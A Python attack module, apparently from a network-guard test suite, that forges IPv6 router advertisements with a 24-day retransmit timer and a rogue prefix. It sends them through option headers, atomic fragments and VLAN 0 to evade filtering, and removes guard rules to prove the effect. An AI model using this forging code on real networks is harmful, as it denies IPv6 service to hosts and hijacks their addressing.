"""A guest advertises itself to the host as a router, and says that whoever is looked for may take days to answer.

The host keeps whom it looks for in its table of neighbours until it has asked three times, and an advertisement says how long it waits between
two questions (RFC 4861 §6.3.4). With days between them, a few thousand segments from addresses that are nobody's fill the table for good.
Advertisements of every dress, to all nodes and to the host alone, also name a prefix, which would give the host another address. Gained: a host
that answers no new guest by IPv6, on any bridge. In the way: the guard marks guests' advertisements, and the host drops what has the mark (chains
`guard_discovery_…`, `input`); other guests still hear them.
"""

import struct
import time

import attack
import rules
import space
import wire
from attack import Outcome
from attacks.lib import dresses
from field import BRIDGE_MACS, Field
from host import Host

EVERYONE = (wire.mac("33:33:00:00:00:01"), wire.ip("ff02::1"))
# In milliseconds: 24 days.
WAIT = 0x7FFFFFFF
PREFIX = "2001:db8:77::"
TIMER = "/proc/sys/net/ipv6/neigh/{}/retrans_time_ms"


def kinds(field: Field) -> dict[str, list[bytes]]:
    """The frames, by what is special about them."""
    source, me = wire.ip(field.me.local6), field.me.link
    host = (field.bridge, wire.ip("2001:db8:2::1"))
    prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 1800, 1800, 0) + wire.ip(PREFIX)
    options = bytes([wire.ICMPV6, 0, 1, 4, 0, 0, 0, 0])

    def message(to: tuple[bytes, bytes], *, has_prefix: bool = True, headers: bytes = b"", following: int = wire.ICMPV6) -> bytes:
        body = struct.pack("!BBHBBHII", wire.ROUTER_ADVERTISEMENT, 0, 0, 0, 0, 1800, 0, WAIT) + (prefix if has_prefix else b"")
        return wire.discovery(to[0], me, (source, to[1]), body, headers, following)

    return {
        "to all": [message(EVERYONE, has_prefix=False)],
        "to the host": [message(host)],
        "to the host's hardware address and all": [message((field.bridge, EVERYONE[1]))],
        "behind hop-by-hop options": [message(host, headers=options, following=wire.HOP_BY_HOP)],
        "behind destination options": [message(host, headers=options, following=wire.DESTINATION_OPTIONS)],
        "in an atomic fragment": [message(host, headers=struct.pack("!BBHI", wire.ICMPV6, 0, 0, 7), following=wire.FRAGMENT)],
        "in VLAN 0": [wire.tagged(message(host), (wire.VLAN, 0))],
    }


class Attack(attack.Attack):
    """The forger advertises, on a host that listens to routers."""

    hosts = ("address", "redirect", "bridge", "auto")
    families = (6,)
    proofs = (("address", 6), ("redirect", 6))

    def attack(self, field: Field) -> None:
        """Advertises in every dress."""
        dresses.send(field, kinds(field))

    def during(self, host: Host, outcome: Outcome) -> None:
        """Looks how long the host waits, and whether the victims heard."""
        time.sleep(2)
        with open(TIMER.format("br0"), encoding="ascii") as file:
            outcome.host_report["waits"] = int(file.read())
        outcome.host_report["has"] = PREFIX in space.call("ip", "-6", "address", "show", "dev", "br0") + space.call("ip", "-6", "route", "show")
        one = host.victims[0]
        with space.inside(one.name):
            outcome.host_report["heard"] = "proto ra" in space.call("ip", "-n", one.name, "-6", "route", "show", "default")

    def gained(self, outcome: Outcome) -> str | None:
        """A host that believes."""
        found = outcome.host_report
        if not found["heard"]:
            raise space.Failure("victim-1 heard of no router: the attack does not work")
        if found["waits"] != 1000:
            return f"the host waits {found['waits']} ms for a neighbour"
        if found["has"]:
            return "the host took the forger's prefix"
        return f"victims lost {outcome.lost} requests" if outcome.lost else None

    def weaken(self, host: Host) -> None:
        """Lets the host hear."""
        rules.remove(r"mark 0x[89a-f]\w{7} ", "inet", "input")
        rules.remove(r"nd-router-advert", "inet", "icmp_errors")

    def restore(self, host: Host) -> None:
        """Everybody forgets."""
        space.setting("net.ipv6.neigh.br0.retrans_time_ms", 1000)
        space.call("ip", "-6", "route", "flush", "proto", "ra")
        space.call("ip", "-6", "address", "flush", "dev", "br0", "dynamic")
        for one in host.victims:
            space.setting("net.ipv6.neigh.eth0.retrans_time_ms", 1000, one.name)
            space.call("ip", "-n", one.name, "-6", "route", "flush", "proto", "ra")
        host.heal()
